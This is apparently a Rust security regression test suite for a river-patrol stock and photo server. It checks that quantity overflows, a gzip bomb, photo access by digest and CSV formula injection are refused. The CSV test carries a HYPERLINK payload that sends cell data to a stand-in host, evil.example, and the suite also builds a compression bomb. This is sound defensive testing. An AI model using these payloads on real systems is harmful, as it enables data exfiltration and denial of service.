//! The holes a hostile client found (issue 14), each reproduced against a real server: stock
//! quantities past what a depot holds, compressed bodies that inflate past the limit, photos fetched
//! by whoever knows a digest, and CSV cells that a spreadsheet would run as formulas.

use crate::common::{add_user, draft, phone, segment, Http};
use crate::supplies::{assert_ledger, cli_check, post};
use anyhow::Result;
use flate2::write::{GzEncoder, ZlibEncoder};
use flate2::Compression;
use reqwest::StatusCode;
use riverchief_shared::domain::{IssueCategory, Severity};
use riverchief_shared::id::DeviceId;
use riverchief_shared::photo::Sha256;
use riverchief_shared::stock::MAX_QUANTITY;
use riverchief_tests::{login, TestServer};
use serde_json::{json, Value};
use std::io::Write;

async fn on_hand(http: &Http, depot: &str, item: &str) -> Result<i64> {
    let v = http.get("/api/v1/stock").await?;
    Ok(v["stock"]
        .as_array()
        .into_iter()
        .flatten()
        .find(|l| l["depot"] == depot && l["item"] == item)
        .and_then(|l| l["on_hand"].as_i64())
        .unwrap_or(0))
}

/// Two receipts of `i64::MAX` used to overflow the balance (SQLite kept the sum as a float) and leave
/// the ledger check reporting a negative sum. Now a quantity is at most what a depot holds, a balance
/// never passes it, and the check is exact right at the bound.
#[tokio::test]
async fn stock_quantities_are_bounded_and_the_ledger_stays_exact_at_the_bound() -> Result<()> {
    let server = TestServer::start().await?;
    let base = server.url();
    let lead = login(&base, "chen").await?;
    let http = Http::new(&base, &lead);
    let (depot, item) = ("ZHWY-P", "BAG-JUTE");
    let movement = |kind: &str, quantity: i64| json!({"depot": depot, "item": item, "kind": kind, "quantity": quantity});

    let patroller = Http::new(&base, &login(&base, "zhangwei").await?);
    let before = server.db.digest()?;
    for q in [i64::MAX, MAX_QUANTITY + 1] {
        let (s, b) = post(
            &base,
            &lead,
            "/api/v1/stock/movements",
            &movement("receive", q),
        )
        .await?;
        assert_eq!(s, StatusCode::BAD_REQUEST, "{b}");
        assert_eq!(b["error"]["code"], "out_of_range", "{b}");
        assert_eq!(b["error"]["field"], "quantity", "{b}");
    }
    // A stocktake may not count past the bound either.
    let (s, b) = post(
        &base,
        &lead,
        "/api/v1/stock/stocktakes",
        &json!({"depot": depot, "reason": "count", "counts": [{"item": item, "counted": MAX_QUANTITY + 1}]}),
    )
    .await?;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{b}");
    assert_eq!(b["error"]["field"], "counts[0].counted", "{b}");
    assert_eq!(server.db.digest()?, before);
    // From a device, the same refusal inside the push result (the journal keeps the answer; the
    // stock does not move).
    let have = on_hand(&http, depot, item).await?;
    let m = crate::common::mutation(
        1,
        "stock.move",
        json!({"movement_id": uuid::Uuid::now_v7(), "depot": depot, "item": item,
               "kind": "dispatch", "quantity": i64::MAX, "segment": "QHL-02"}),
    );
    let r = patroller.push(DeviceId::new(), vec![m]).await?;
    assert_eq!(r[0]["status"], "rejected", "{r:?}");
    assert_eq!(r[0]["error"]["field"], "data.quantity", "{r:?}");
    assert_eq!(on_hand(&http, depot, item).await?, have);

    // Fill the depot to exactly the bound: one more is refused (409, naming the quantity), and
    // nothing of it is written.
    let (s, b) = post(
        &base,
        &lead,
        "/api/v1/stock/movements",
        &movement("receive", MAX_QUANTITY - have),
    )
    .await?;
    assert_eq!(s, StatusCode::CREATED, "{b}");
    assert_eq!(b["on_hand"], MAX_QUANTITY, "{b}");
    let at_bound = server.db.digest()?;
    let (s, b) = post(
        &base,
        &lead,
        "/api/v1/stock/movements",
        &movement("receive", 1),
    )
    .await?;
    assert_eq!(s, StatusCode::CONFLICT, "{b}");
    assert_eq!(b["error"]["code"], "over_capacity", "{b}");
    assert_eq!(b["error"]["field"], "quantity", "{b}");
    assert_eq!(server.db.digest()?, at_bound);
    assert_eq!(on_hand(&http, depot, item).await?, MAX_QUANTITY);

    // The ledger sums exactly to the balance at the bound, in the library and in the admin command.
    assert_ledger(&server.db)?;
    cli_check(&server)?;
    // A dispatch of the whole bound empties it, and the books still balance.
    let (s, b) = post(
        &base,
        &lead,
        "/api/v1/stock/movements",
        &json!({"depot": depot, "item": item, "kind": "dispatch", "quantity": MAX_QUANTITY, "segment": "QHL-02"}),
    )
    .await?;
    assert_eq!(s, StatusCode::CREATED, "{b}");
    assert_eq!(b["on_hand"], 0, "{b}");
    assert_ledger(&server.db)?;
    cli_check(&server)?;
    Ok(())
}

/// Posts `body` to the push endpoint with `Content-Encoding: encoding`.
async fn push_encoded(
    base: &str,
    token: &str,
    encoding: &str,
    body: Vec<u8>,
) -> Result<(StatusCode, Value)> {
    let r = reqwest::Client::new()
        .post(format!("{base}/api/v1/sync/push"))
        .bearer_auth(token)
        .header("Content-Type", "application/json")
        .header("Content-Encoding", encoding)
        .body(body)
        .send()
        .await?;
    crate::common::status_and_body(r).await
}

fn gzip(bytes: &[u8]) -> Result<Vec<u8>> {
    let mut e = GzEncoder::new(Vec::new(), Compression::best());
    e.write_all(bytes)?;
    Ok(e.finish()?)
}

/// A compressed push is inflated as it arrives and refused as soon as it passes the limit; a small
/// body that inflates to 64 MiB never becomes 64 MiB on the server (the memory side is the `memory`
/// benchmark's gzip-bomb figure).
#[tokio::test]
async fn compressed_bodies_are_inflated_no_further_than_the_limit() -> Result<()> {
    let server = TestServer::start().await?;
    let base = server.url();
    let token = login(&base, "zhangwei").await?;
    let push = json!({"device_id": DeviceId::new(), "mutations": [crate::common::mutation(
        1,
        "stock.move",
        json!({"movement_id": uuid::Uuid::now_v7(), "depot": "ZHWY-P", "item": "BAG-JUTE",
               "kind": "dispatch", "quantity": 1, "segment": "QHL-02"}),
    )]});
    let plain = serde_json::to_vec(&push)?;

    // gzip and deflate (zlib) bodies are read as what they inflate to.
    let (s, b) = push_encoded(&base, &token, "gzip", gzip(&plain)?).await?;
    assert_eq!(s, StatusCode::OK, "{b}");
    assert_eq!(b["results"][0]["status"], "applied", "{b}");
    let mut z = ZlibEncoder::new(Vec::new(), Compression::default());
    z.write_all(&plain)?;
    let (s, b) = push_encoded(&base, &token, "deflate", z.finish()?).await?;
    assert_eq!(s, StatusCode::OK, "{b}");
    assert_eq!(b["results"][0]["status"], "duplicate", "{b}");

    let before = server.db.digest()?;
    // A bomb: 64 MiB of JSON whitespace after the push, about 64 KiB on the wire.
    let mut bomb = plain.clone();
    bomb.resize(plain.len() + 64 * 1024 * 1024, b' ');
    let packed = gzip(&bomb)?;
    assert!(packed.len() < 200 * 1024, "{}", packed.len());
    let (s, b) = push_encoded(&base, &token, "gzip", packed).await?;
    assert_eq!(s, StatusCode::PAYLOAD_TOO_LARGE, "{b}");
    assert_eq!(b["error"]["code"], "too_large", "{b}");
    // A body that is not what its encoding says, a truncated one, and an encoding we do not speak.
    let (s, b) = push_encoded(&base, &token, "gzip", plain.clone()).await?;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{b}");
    assert_eq!(b["error"]["code"], "bad_request", "{b}");
    let whole = gzip(&plain)?;
    let (s, b) = push_encoded(&base, &token, "gzip", whole[..whole.len() / 2].to_vec()).await?;
    assert!(s == StatusCode::BAD_REQUEST, "{s} {b}");
    let (s, b) = push_encoded(&base, &token, "br", plain.clone()).await?;
    assert_eq!(s, StatusCode::UNSUPPORTED_MEDIA_TYPE, "{b}");
    assert_eq!(b["error"]["code"], "unsupported_media_type", "{b}");
    assert_eq!(server.db.digest()?, before);
    Ok(())
}

/// A photo of `size` bytes on a minor crack on QHL-02, reported and synced by zhangwei's phone.
async fn reported_photo(base: &str, size: usize) -> Result<(Vec<u8>, Sha256)> {
    let dir = tempfile::tempdir()?;
    let zhang = phone(dir.path(), base, "zhangwei").await?;
    let qhl02 = segment(&zhang, "QHL-02").await?;
    let bytes = riverchief_tests::fake_jpeg(size, size as u64);
    let path = dir.path().join("crack.jpg");
    std::fs::write(&path, &bytes)?;
    let sha = Sha256::of(&bytes);
    zhang
        .report_issue(draft(
            &qhl02,
            0.4,
            IssueCategory::Crack,
            Severity::Minor,
            None,
            "堤顶纵向裂缝",
            None,
            vec![path],
        ))
        .await?;
    zhang.sync(&|_| {}).await?;
    Ok((bytes, sha))
}

/// A photo is seen by whoever may see an issue listing it, its uploader, and the duty leads; anyone
/// else who knows its digest is answered as if it never arrived.
#[tokio::test]
async fn a_photo_is_seen_only_by_those_who_may_see_its_issue() -> Result<()> {
    let server = TestServer::start().await?;
    let base = server.url();
    // wangwu patrols the other bank; lina's segments include QHL-02.
    add_user(&server, "wangwu", "patroller", &["QHR-02"])?;
    let (bytes, sha) = reported_photo(&base, 50_000).await?;

    let fetch = |user: &'static str, method: reqwest::Method| {
        let base = base.clone();
        let sha = sha.hex();
        async move {
            let token = login(&base, user).await?;
            let r = reqwest::Client::new()
                .request(method, format!("{base}/api/v1/photos/{sha}"))
                .bearer_auth(token)
                .send()
                .await?;
            let status = r.status();
            let body = r.bytes().await?;
            anyhow::Ok((status, body))
        }
    };
    for user in ["zhangwei", "lina", "chen", "admin"] {
        let (s, body) = fetch(user, reqwest::Method::GET).await?;
        assert_eq!(s, StatusCode::OK, "{user}");
        assert_eq!(body.as_ref(), bytes.as_slice(), "{user}");
    }
    let (s, body) = fetch("wangwu", reqwest::Method::GET).await?;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let b: Value = serde_json::from_slice(&body)?;
    assert_eq!(b["error"]["code"], "not_found", "{b}");
    let (s, _) = fetch("wangwu", reqwest::Method::HEAD).await?;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let (s, _) = fetch("lina", reqwest::Method::HEAD).await?;
    assert_eq!(s, StatusCode::OK);
    Ok(())
}

/// What a patroller or a duty lead typed reaches the spreadsheet as text: a note that would be a
/// formula comes out with a leading `'`; plain figures stay figures.
#[tokio::test]
async fn csv_cells_that_would_run_as_formulas_come_out_as_text() -> Result<()> {
    let server = TestServer::start().await?;
    let base = server.url();
    let lead = login(&base, "chen").await?;
    let notes = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\tcmd",
    ];
    for note in notes {
        let (s, b) = post(
            &base,
            &lead,
            "/api/v1/stock/movements",
            &json!({"depot": "ZHWY-P", "item": "BAG-JUTE", "kind": "receive", "quantity": 5, "note": note}),
        )
        .await?;
        assert_eq!(s, StatusCode::CREATED, "{b}");
    }
    let (s, b) = post(
        &base,
        &lead,
        "/api/v1/stock/movements",
        &json!({"depot": "ZHWY-P", "item": "BAG-JUTE", "kind": "dispatch", "quantity": 3, "segment": "QHL-02"}),
    )
    .await?;
    assert_eq!(s, StatusCode::CREATED, "{b}");
    let http = Http::new(&base, &lead);
    let csv = String::from_utf8(
        http.bytes("/api/v1/stock/movements?depot=ZHWY-P&format=csv")
            .await?,
    )?;
    let cells: Vec<&str> = csv
        .split("\r\n")
        .flat_map(|line| line.split(','))
        .map(|c| c.trim_start_matches('"'))
        .collect();
    for c in &cells {
        let risky = c.starts_with(['=', '+', '@', '\t', '\r'])
            || (c.starts_with('-') && c.parse::<f64>().is_err());
        assert!(!risky, "a cell a spreadsheet would run: {c:?} in\n{csv}");
    }
    assert!(csv.contains("'=HYPERLINK("), "{csv}");
    assert!(csv.contains("'+1+1"), "{csv}");
    assert!(csv.contains("'-2+3"), "{csv}");
    assert!(csv.contains("'@SUM(A1:A9)"), "{csv}");
    assert!(csv.contains("'\tcmd"), "{csv}");
    // The dispatch's quantity is still a number a spreadsheet adds up.
    assert!(cells.contains(&"-3"), "{csv}");
    Ok(())
}

/// Every refusal carries the envelope: a served path asked with another method is 405 with `Allow`
/// (inside and outside `/api/v1`), a path nobody serves is 404, and a byte range past a photo's end
/// is 416 with `Content-Range`.
#[tokio::test]
async fn refusals_outside_the_handlers_carry_the_envelope() -> Result<()> {
    let server = TestServer::start().await?;
    let base = server.url();
    let lead = login(&base, "chen").await?;
    let http = reqwest::Client::new();
    let envelope = |r: reqwest::Response| async move {
        let status = r.status();
        let allow = r
            .headers()
            .get("allow")
            .and_then(|v| v.to_str().ok())
            .map(str::to_owned);
        let range = r
            .headers()
            .get("content-range")
            .and_then(|v| v.to_str().ok())
            .map(str::to_owned);
        let ty = r
            .headers()
            .get("content-type")
            .and_then(|v| v.to_str().ok())
            .map(str::to_owned);
        let body: Value = r.json().await?;
        assert_eq!(ty.as_deref(), Some("application/json"), "{body}");
        assert!(body["error"]["message"].is_string(), "{body}");
        anyhow::Ok((status, body["error"]["code"].clone(), allow, range))
    };
    for (method, path, allow) in [
        (reqwest::Method::POST, "/api/v1/segments", "GET"),
        (
            reqwest::Method::DELETE,
            "/api/v1/stock/movements",
            "POST, GET",
        ),
        (reqwest::Method::PUT, "/api/v1/issues/counts", "GET"),
        (
            reqwest::Method::DELETE,
            "/api/v1/photos/0000000000000000000000000000000000000000000000000000000000000000",
            "GET, HEAD",
        ),
        (reqwest::Method::POST, "/healthz", "GET"),
        (reqwest::Method::PUT, "/", "GET, HEAD"),
    ] {
        let r = http
            .request(method.clone(), format!("{base}{path}"))
            .bearer_auth(&lead)
            .send()
            .await?;
        let (status, code, got_allow, _) = envelope(r).await?;
        assert_eq!(status, StatusCode::METHOD_NOT_ALLOWED, "{method} {path}");
        assert_eq!(code, "method_not_allowed", "{method} {path}");
        assert_eq!(got_allow.as_deref(), Some(allow), "{method} {path}");
    }
    for path in ["/nothing-here", "/api/v1/nothing-here", "/healthz/extra"] {
        let r = http
            .post(format!("{base}{path}"))
            .bearer_auth(&lead)
            .send()
            .await?;
        let (status, code, _, _) = envelope(r).await?;
        assert_eq!(status, StatusCode::NOT_FOUND, "{path}");
        assert_eq!(code, "not_found", "{path}");
    }

    // A photo, then a range past its end.
    let (bytes, sha) = reported_photo(&base, 20_000).await?;
    let r = http
        .get(format!("{base}/api/v1/photos/{sha}"))
        .bearer_auth(&lead)
        .header("Range", format!("bytes={}-", bytes.len() + 10))
        .send()
        .await?;
    let (status, code, _, range) = envelope(r).await?;
    assert_eq!(status, StatusCode::RANGE_NOT_SATISFIABLE);
    assert_eq!(code, "range_not_satisfiable");
    assert_eq!(range, Some(format!("bytes */{}", bytes.len())));
    Ok(())
}

/// The dashboard's page is sent with a policy under which an injected script cannot run, and every
/// file of it with `nosniff`, no referrer and no device permissions.
#[tokio::test]
async fn the_dashboard_is_sent_with_a_strict_policy() -> Result<()> {
    let server = TestServer::start().await?;
    let base = server.url();
    let http = reqwest::Client::new();
    let page = http.get(format!("{base}/")).send().await?;
    assert_eq!(page.status(), StatusCode::OK);
    let csp = page
        .headers()
        .get("content-security-policy")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned();
    for directive in [
        "default-src 'self'",
        "script-src 'self';",
        "style-src 'self';",
        "object-src 'none'",
        "base-uri 'none'",
        "frame-ancestors 'none'",
        "connect-src 'self';",
    ] {
        assert!(csp.contains(directive), "{directive} missing from {csp:?}");
    }
    assert!(!csp.contains("unsafe"), "{csp}");
    for path in ["/", "/config.json", "/assets/app.js"] {
        let r = http.get(format!("{base}{path}")).send().await?;
        let h = r.headers();
        assert_eq!(h["x-content-type-options"], "nosniff", "{path}");
        assert_eq!(h["referrer-policy"], "no-referrer", "{path}");
        let permissions = h["permissions-policy"].to_str()?;
        assert!(permissions.contains("camera=()"), "{path}: {permissions}");
    }
    Ok(())
}
